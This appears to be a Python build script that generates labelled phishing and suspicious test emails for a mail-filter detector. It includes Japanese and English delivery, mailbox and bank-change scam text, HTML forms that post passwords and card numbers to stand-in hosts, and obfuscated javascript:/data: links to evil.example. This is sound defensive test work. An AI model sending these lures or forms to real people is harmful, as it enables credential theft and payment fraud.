# Phishing and suspicious mail of the classes of issues 20 and 11.10 (part
# of build.py). Most are checked offline as well: the rules must not lean
# on DMARC, which a recipient without --dns does not have.

ATK = dict(helo="vps-12.cheap-host.example", ip="192.0.2.66", rp="bounce@cheap-host.example")

# ---- 1. the shop's own domain in From, links elsewhere (20.1) ----------------
carrier = [
    ("ヤマト運輸", "お荷物のお届けについて",
     "お客様宛にお荷物をお届けに上がりましたが、宛先不明のため持ち帰りました。\n再配達のお手続きは下記よりお願いいたします。\n{url}\n保管期限を過ぎますと返送となります。",
     "https://yamato-redelivery.cfd/track?no=4567{n}"),
    ("佐川急便", "【佐川急便】不在通知",
     "お荷物の配達に伺いましたが、ご不在でした。\n下記URLから再配達のお手続きをお願いします。\n{url}",
     "https://sagawa-delivery-jp.top/re/{n}"),
    ("日本郵便", "【重要】配達できませんでした",
     "住所不備のため、お荷物を配達できませんでした。\n住所の確認と再配達のお手続きをお願いいたします: {url}",
     "https://post-jp-check.xyz/address/{n}"),
]
for i, (name, subj, text, url) in enumerate(carrier):
    for j, style in enumerate(["jis", "u8b64", "sjis"]):
        if (i + j) % 3 == 2:
            continue
        t = text.format(url=url.format(n=j), n=j)
        mail(f"pc_own_carrier_{i}_{style}.eml", "phishing", ["sender.own_domain_links_elsewhere", "display.spoof_service"],
             f"{ew(name, hcs(style))} <info@shop.co.jp>", ew(subj, hcs(style), split=8 if j else 0),
             body_part(t, style), f"{name}'s name on the shop's own address, link to an unrelated site", offline=True, **ATK)

# 11.10(b): self-spoof "mailbox full", sign-in on an unrelated site with the victim's domain in the path.
box = [
    ("メールボックスの容量がいっぱいです", "{to} 様\n\nメールボックスの容量が上限に達しました。新しいメールを受信できません。\n容量を増やすには、下記からサインインしてください。\n{url}\n\nshop.co.jp メールシステム管理者",
     "https://mail-quota-upgrade.web.app/shop.co.jp/signin?user={to}"),
    ("Mailbox storage full", "Dear {to},\n\nYour mailbox is full and incoming mail is being held.\nSign in to release your messages:\n{url}\n\nshop.co.jp IT Help Desk",
     "https://owa-release.pages.dev/auth/shop.co.jp/{n}"),
    ("パスワードの有効期限のお知らせ", "{to} 様\n\nshop.co.jp アカウントのパスワードの有効期限が本日切れます。\n同じパスワードを使い続けるには、こちらからログインしてください。\n{url}",
     "https://keep-password.sakura-server.example/login/shop.co.jp/"),
]
for i, (subj, text, url) in enumerate(box):
    for j, style in enumerate(["u8qp", "jis", "sjisb64"]):
        to = "owner@shop.co.jp"
        t = text.format(to=to, url=url.format(to=to, n=j))
        if j == 2:
            html = "<html><body>" + "".join(f"<p>{line}</p>" for line in t.split("\n")).replace(url.format(to=to, n=j), f'<a href="{url.format(to=to, n=j)}">サインイン / Sign in</a>') + "</body></html>"
            parts = body_part(html, style, html=True)
        else:
            parts = body_part(t, style)
        mail(f"pc_self_mailbox_{i}_{style}.eml", "phishing", ["sender.own_domain_links_elsewhere", "link.victim_domain"],
             f"{ew('shop.co.jp 管理者', hcs(style))} <postmaster@shop.co.jp>" if i != 1 else "IT Help Desk <helpdesk@shop.co.jp>",
             ew(subj, hcs(style)), parts, "Self-spoof from the recipient's own domain, sign-in elsewhere with the victim's domain in the path",
             offline=(j != 1), **ATK)

# The recipient's own domain, not protected (a staff member's company mail).
mail("pc_self_unprotected_domain.eml", "phishing", ["sender.own_domain_links_elsewhere", "link.victim_domain"],
     "Yamada Trading IT <it-support@yamada-trading.example>", "Action needed: verify your mailbox",
     body_part("Hello,\n\nWe detected unusual sign-in activity on your yamada-trading.example mailbox.\nVerify your account within 24 hours: https://verify-mail.netlify.app/yamada-trading.example/login\n", "u8"),
     "Self-spoof of a recipient domain that is not in the protected list", to="staff@yamada-trading.example", offline=True, **ATK)

# ---- 2. credential forms in the body (20.2, 11.10a) ----------------------------
forms = [
    ("管理画面の再認証", "セキュリティ強化のため、管理画面の再認証をお願いします。", "https://auth-check.shop-portal.example/post.php", "ログインID", "パスワード"),
    ("アカウント確認", "お客様のアカウントの確認が必要です。以下のフォームに入力してください。", "https://203.0.113.250/gate.php", "メールアドレス", "パスワード"),
    ("Verify your account", "Your session expired. Please confirm your login details below.", "https://login-verify.example.net/submit", "Email", "Password"),
    ("カード情報の確認", "お支払いに使用するカード情報の確認をお願いします。", "https://card-update.example.org/save", "カード番号", "セキュリティコード"),
]
for i, (subj, lead, action, f1, f2) in enumerate(forms):
    for j, style in enumerate(["u8qp", "sjisb64", "jis"]):
        if i == 3 and j == 2:
            continue
        n2 = "password" if i < 3 else "cvv"
        n1 = "login_id" if i < 3 else "card_no"
        html = (f'<html><body><p>{lead}</p><form action="{action}" method="post">'
                f'<p>{f1}: <input type="text" name="{n1}"></p><p>{f2}: <input type="{"password" if i < 3 else "text"}" name="{n2}"></p>'
                f'<p><input type="submit" value="送信 / Submit"></p></form><p>さくら雑貨 システム管理</p></body></html>')
        frm = (f"{ew('さくら雑貨 システム管理', hcs(style))} <admin@shop.co.jp>" if j == 0 else
               f"{ew('セキュリティセンター', hcs(style))} <security@account-center.example>")
        mail(f"pc_form_{i}_{style}.eml", "phishing", ["link.credential_form"], frm, ew(subj, hcs(style)),
             body_part(html, style, html=True), "HTML form in the body posting sign-in or card data to an unrelated host",
             offline=(j != 2), **ATK)

# ---- 3. javascript: and data: links next to a sign-in request (20.3) ------------
scripts = [
    ('<a href="javascript:window.location=\'https://evil.example/\'+\'login\'">ログインして確認する</a>', "ご注文に問題が発生しました。ログインして確認してください。"),
    ('<a href="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2V2aWwuZXhhbXBsZS8iPjxpbnB1dCB0eXBlPSJwYXNzd29yZCI+PC9mb3JtPg==">サインイン</a>', "アカウントが一時的にロックされました。サインインして解除してください。"),
    ('<a href="JavaScript:void(document.location=atob(\'aHR0cHM6Ly9ldmlsLmV4YW1wbGUv\'))">Sign in now</a>', "Your account has been locked. Sign in to restore access."),
]
for i, (link, lead) in enumerate(scripts):
    for j, style in enumerate(["u8qp", "jis"]):
        html = f"<html><body><p>{lead}</p><p>{link}</p></body></html>"
        mail(f"pc_script_{i}_{style}.eml", "phishing", ["link.script_login"],
             f"{ew('アカウントサポート', hcs(style))} <support@account-help.example>", ew("【重要】アカウントの確認", hcs(style)),
             body_part(html, style, html=True), "javascript:/data: link with a request to sign in", offline=(j == 0), **ATK)

# ---- 4. QR code, no link (20.4) ------------------------------------------------
qrs = [
    ("二段階認証の再設定", "セキュリティ強化のため、二段階認証の再設定が必要です。\n添付のQRコードをスマートフォンで読み取り、ログインして手続きを完了してください。\n24時間以内に手続きがない場合、アカウントは停止されます。"),
    ("MFA re-enrolment required", "Your multi-factor authentication expires today.\nScan the attached QR code with your phone and sign in to keep access.\nFailure to do so will lock your account."),
    ("決済アカウントの確認", "お客様の決済アカウントで不審な取引が検出されました。\n本人確認のため、QRコードを読み取ってログインしてください。"),
]
for i, (subj, text) in enumerate(qrs):
    for j, style in enumerate(["jis", "u8b64"]):
        c, e, b = body_part(text, style)
        mail(f"pc_qr_{i}_{style}.eml", "phishing", ["lure.qr_login"],
             f"{ew('セキュリティ通知', hcs(style))} <noreply@secure-notice.example>", ew(subj, hcs(style)),
             ("mixed", [part(c, e, b), part('image/png; name="qrcode.png"', "base64", b64(PNG), 'attachment; filename="qrcode.png"')]),
             "QR-code lure without a link, image attached", offline=(j == 0), **ATK)

# ---- 5. bank-account change from a look-alike of the supplier (20.5) -------------
thread = ("\n\n-----Original Message-----\nFrom: 丸山 健 <k.maruyama@maruyama-shoji.co.jp>\nSent: Monday, March 10, 2025 5:02 PM\n"
          "To: owner@shop.co.jp\nSubject: 3月分 御請求書送付のご案内\n\n> 3月分の請求書を添付にてお送りいたします。\n> 丸山商事株式会社 営業部 丸山 健\n")
becs = [
    ("振込先口座変更のお願い", "いつもお世話になっております。丸山商事の丸山です。\n先日お送りした請求書の件ですが、弊社の口座が変更となりました。\n"
     "大変お手数ですが、今回のお支払いから下記の新しい口座へお振込みをお願いいたします。\n銀行: ○○銀行 本店営業部 普通 1234567\n名義: マルヤマショウジ(カ\nまた、本件は監査中のため、お電話でのお問い合わせはご遠慮ください。", "maruyama-shouji.co.jp"),
    ("【至急】お支払い先変更のご連絡", "お世話になっております。丸山商事 経理部です。\n振込先の変更について至急ご対応をお願いいたします。本日中にお振込いただけますと幸いです。\n"
     "新口座: ゆうちょ銀行 〇一八店 普通 7654321", "maruyama-shoji.co"),
    ("Re: 3月分 御請求書送付のご案内", "丸山です。請求書の振込先が誤っておりました。\n正しい振込先口座の変更をお知らせいたします。\n"
     "新しい口座: 楽天銀行 第一営業支店 普通 1112223\nご確認のほど、よろしくお願いいたします。", "rnaruyama-shoji.co.jp"),
]
for i, (subj, text, fake) in enumerate(becs):
    for j, style in enumerate(["jis", "sjis", "u8qp"]):
        if i == 2 and j == 1:
            continue
        mail(f"pc_bec_bank_{i}_{style}.eml", "phishing", ["bec.bank_change", "bec.lookalike_correspondent"],
             f"{ew('丸山商事 丸山', hcs(style))} <k.maruyama@{fake}>", ew(subj, hcs(style), split=10 if j == 2 else 0),
             body_part(text + thread, style), "Bank change from a look-alike of the supplier quoted in the thread",
             offline=(j != 0), helo=f"mail.{fake}", ip="192.0.2.120", rp=f"k.maruyama@{fake}")

# Not in the thread, but a known correspondent (神戸紅茶, kobe-tea.co.jp).
mail("pc_bec_bank_correspondent.eml", "phishing", ["bec.bank_change", "bec.lookalike_correspondent"],
     f"{ew('神戸紅茶 経理', 'ISO-2022-JP')} <keiri@kobe-tae.co.jp>", ew("振込先口座変更のお願い", "ISO-2022-JP"),
     body_part("さくら雑貨 御中\n\n神戸紅茶の経理担当です。\n弊社の振込先口座が変更になりましたので、今月分より新口座へお振込みください。\n新口座: 三菱UFJ銀行 神戸支店 普通 3344556\n", "jis"),
     "Bank change from a look-alike of a known correspondent", offline=True, helo="mail.kobe-tae.co.jp", ip="192.0.2.121", rp="keiri@kobe-tae.co.jp")

# Urgent payment from free mail.
for j, style in enumerate(["jis", "u8b64"]):
    mail(f"pc_bec_urgent_freemail_{style}.eml", "phishing", ["bec.urgent_payment", "bec.freemail"],
         f"{ew('さくら雑貨 代表 佐藤', hcs(style))} <sakura.zakka.ceo@gmail.com>", ew("至急のお願い", hcs(style)),
         body_part("お疲れさまです。佐藤です。\n取引先への支払いが急ぎで必要になりました。至急送金をお願いできますか。\n金額と口座は折り返し連絡します。会議中のため電話には出られません。\n", style),
         "Urgent transfer request from a free-mail address posing as the owner", offline=True,
         helo="mail-sor-f41.google.com", ip="209.85.220.41", rp="sakura.zakka.ceo@gmail.com")

# Gift cards from free mail (20.7).
gifts = [
    ("お願いがあります", "お疲れさまです。店長の佐藤です。\nお客様へのプレゼント用に、Amazonギフトカードを5万円分購入してもらえますか。\n購入したらカードの裏面の番号を写真で送ってください。\n経費で精算します。"),
    ("Quick favour", "Hi, are you at your desk? I need you to buy some Apple Gift Card (5 x 10,000 yen) for a client today.\nScratch the back and send me the codes by reply. I'll reimburse you."),
]
for i, (subj, text) in enumerate(gifts):
    for j, style in enumerate(["jis", "u8qp"]):
        mail(f"pc_gift_freemail_{i}_{style}.eml", "suspicious", ["bec.gift_card", "bec.freemail"],
             f"{ew('佐藤 店長', hcs(style))} <sato.tencho.sakura@yahoo.co.jp>" if i == 0 else "Sato <sato.sakura.zakka@outlook.com>",
             ew(subj, hcs(style)), body_part(text, style), "Gift-card request from a free-mail sender", offline=True,
             helo="mail.freemail.example", ip="192.0.2.130", rp="x@freemail.example")

# ---- 6. well-known services not in the protected list, sign-in elsewhere (20.6) ----
svc = [
    ("Stripe", "support@stripe-account-review.com", "【Stripe】アカウントの確認が必要です",
     "Stripeをご利用いただきありがとうございます。\nお客様のアカウントで入金が保留されています。本人確認のため、24時間以内に下記よりログインしてください。\n{url}", "https://dashboard-stripe.account-review.cfd/login"),
    ("PayPal", "service@intl-paypal-notice.com", "お客様のアカウントは制限されています",
     "PayPalをご利用いただきありがとうございます。\nお客様のアカウントへの不正アクセスが検出されたため、アカウントを一時的に制限しました。\n制限を解除するには、ログインして情報を更新してください。\n{url}", "https://resolution-center.help-desk.example/signin"),
    ("Amazon", "account-update@amazon-co-jp.support", "Amazonアカウントの更新",
     "Amazonをご利用いただきありがとうございます。\nお支払い方法の有効期限が切れたため、アカウントを停止しました。\n{url} からログインして支払い方法を更新してください。", "https://amazon-co-jp.support/ap/signin"),
    ("楽天市場", "rms-info@rakuten-rms-notice.net", "【楽天市場】RMSログイン情報の確認",
     "楽天市場 出店者様\nRMSのセキュリティ強化のため、ログイン情報の確認をお願いいたします。\n確認されない場合、店舗の利用を制限いたします。\n{url}", "https://rms-login-confirm.example/rms/login"),
    ("ヤマト運輸", "info@kuroneko-member.example", "クロネコメンバーズ 会員情報の確認",
     "クロネコメンバーズをご利用の皆様\n会員情報の確認が必要です。下記よりログインしてください。\n{url}", "https://kuroneko-members.top/login"),
]
for i, (name, addr, subj, text, url) in enumerate(svc):
    for j, style in enumerate(["jis", "u8b64", "sjis"]):
        if (i + j) % 3 == 1 and i > 1:
            continue
        t = text.format(url=url)
        if j == 1:
            html = "<html><body>" + "".join(f"<p>{l}</p>" for l in t.split("\n")).replace(url, f'<a href="{url}">ログインする</a>') + "</body></html>"
            parts = body_part(html, style, html=True)
        else:
            parts = body_part(t, style)
        mail(f"pc_service_{i}_{style}.eml", "phishing", ["service.impersonation"],
             f"{ew(name, hcs(style))} <{addr}>", ew(subj, hcs(style), split=12 if j == 2 else 0), parts,
             f"{name} impersonated, sign-in on an unrelated domain", offline=(j != 0), **ATK)

# ---- 7. open redirects on well-known domains (20.7): circumstantial ----------------
redir = [
    "https://www.google.com/url?q=https%3A%2F%2Freview-docs.example%2Fview&sa=D&source=editors",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Ffiles-share.example%2Fd%2F99&h=AT0x",
    "https://www.bing.com/ck/a?!&&p=abc&u=https://invoice-portal.example/view",
]
for i, url in enumerate(redir):
    for j, style in enumerate(["u8qp", "jis"]):
        html = f'<html><body><p>請求書を共有しました。下記から確認してください。</p><p><a href="{url}">請求書を開く</a></p></body></html>'
        mail(f"sc_open_redirect_{i}_{style}.eml", "suspicious", ["link.open_redirect"],
             f"{ew('経理部', hcs(style))} <keiri@trading-partner.example>", ew("請求書の共有", hcs(style)),
             body_part(html, style, html=True), "A link through a well-known site's redirect to an unrelated host", offline=True,
             helo="mail.trading-partner.example", ip="192.0.2.140", rp="keiri@trading-partner.example")

# ---- 8. "your files are corrupted, log in to fix" (issue 19.3) ----------------------
integ = [
    ("【緊急】サーバー上のファイルが破損しています", "いつもご利用ありがとうございます。\nお客様のサーバー上のファイルが破損していることを検出しました。\n至急、下記から管理画面にログインして修復を行ってください。\n{url}\n\nAkinai サポートチーム", "https://akinai-repair.example/admin/login"),
    ("ファイル改ざんの検知", "ショップのファイルが改ざんされた可能性があります。\n被害を防ぐため、こちらからログインして確認してください。\n{url}", "https://site-guard.example.com/verify"),
    ("Integrity check failed", "Our scan found that files on your server are corrupted.\nLog in to fix them before your shop goes offline:\n{url}\n\nAkinai Security", "https://akinai-integrity.example/login"),
]
for i, (subj, text, url) in enumerate(integ):
    for j, style in enumerate(["jis", "u8qp", "sjis"]):
        if (i + j) % 3 == 2:
            continue
        mail(f"pc_integrity_{i}_{style}.eml", "phishing", ["lure.integrity_login"],
             f"{ew('Akinai サポート', hcs(style))} <support@akinai-support.example>", ew(subj, hcs(style)),
             body_part(text.format(url=url), style), "Corrupted files as a pretext to log in (issue 19.3)",
             offline=(j != 0), advice=["advice.integrity"], **ATK)

# ---- bad attachments: a verdict with what could not be read -------------------------
c, e, b = body_part("請求書を添付します。ご確認ください。", "jis")
mail("sc_html_attachment_not_html.eml", "suspicious", ["parse.unreadable_attachment"],
     f"{ew('経理', 'ISO-2022-JP')} <keiri@trading-partner.example>", ew("請求書", "ISO-2022-JP"),
     ("mixed", [part(c, e, b), part('text/html; name="invoice.html"', "base64", b64(bytes(range(256)) * 8), 'attachment; filename="invoice.html"')]),
     "An .html attachment that is binary data", offline=True, helo="mail.trading-partner.example", ip="192.0.2.140")
mail("sc_image_not_image.eml", "suspicious", ["parse.unreadable_attachment"],
     f"{ew('経理', 'ISO-2022-JP')} <keiri@trading-partner.example>", ew("写真", "ISO-2022-JP"),
     ("mixed", [part(c, e, b), part('image/jpeg; name="photo.jpg"', "base64", b64(b"\x00\x01garbage" * 100), 'attachment; filename="photo.jpg"')]),
     "An image that is not an image", offline=True, helo="mail.trading-partner.example", ip="192.0.2.140")
form = '<html><body><form action="https://collect.example/p"><input type="password" name="pw"></form></body></html>'
mail("pc_image_is_html_form.eml", "phishing", ["attach.disguised", "link.credential_form"],
     f"{ew('経理', 'ISO-2022-JP')} <keiri@trading-partner.example>", ew("写真", "ISO-2022-JP"),
     ("mixed", [part(c, e, b), part('image/png; name="scan.png"', "base64", b64(form.encode()), 'attachment; filename="scan.png"')]),
     "An 'image' that is an HTML login form", offline=True, helo="mail.trading-partner.example", ip="192.0.2.140")
